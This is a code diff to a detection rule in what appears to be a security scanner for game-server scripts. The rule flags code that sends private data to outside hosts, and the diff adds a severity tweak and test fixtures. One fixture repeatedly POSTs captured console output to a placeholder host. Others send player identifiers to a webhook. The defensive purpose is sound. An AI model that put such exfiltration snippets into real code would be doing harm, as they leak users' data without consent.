@@ -4,6 +4,7 @@ import { hasUnknownHost, holdsRows, hostSentTo, hostsIn, httpCall, isForeignCall
 import { propertyOf } from './code.ts'
 import { defineRule, js, lua, medium } from './rule.ts'
 
+const notOwn = origin.http | origin.event | origin.decoded | origin.hidden
 const isPrivate = origin.private | origin.identity
 
 export const sendsData = defineRule({
@@ -64,8 +65,11 @@ export const sendsData = defineRule({
       (within.some((origins) => (origins & isPrivate) !== 0) || values.some(holdsRows))
     )
       return medium(host)
-    if (values.some(hasUnknownHost) && within.some((origins) => (origins & origin.private) !== 0))
-      return medium('a host whose name is made of parts')
+    if (values.some(hasUnknownHost) && within.some((origins) => (origins & origin.private) !== 0)) {
+      // Most owners set such a host themselves.
+      const isHidden = values.some((value) => hasUnknownHost(value) && has(value, notOwn))
+      return { severity: isHidden ? 'medium' : 'low', detail: 'a host whose name is made of parts' }
+    }
     const body = values[1] && fieldOf(values[1], 'body')
     if (file.side === 'page' && host !== undefined && body && program.asksPassword)
       return medium(`what is typed, on a page with a password: ${host}`)
@@ -151,6 +155,8 @@ RegisterConsoleListener((channel, message) => lines.push(message))
 ^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
     ],
     notFound: [
+      js(`const pool = require('driver').createPool({ uri: GetConvar('mysql_connection_string', '') })
+pool.query('SELECT 1', (rows) => emitNet('rows', -1, rows))`),
       lua(`local ids = GetPlayerIdentifiers(source)
 PerformHttpRequest(Config.Webhook, print, 'POST', table.concat(ids))`),
       lua(`local ip = GetPlayerEndpoint(source)
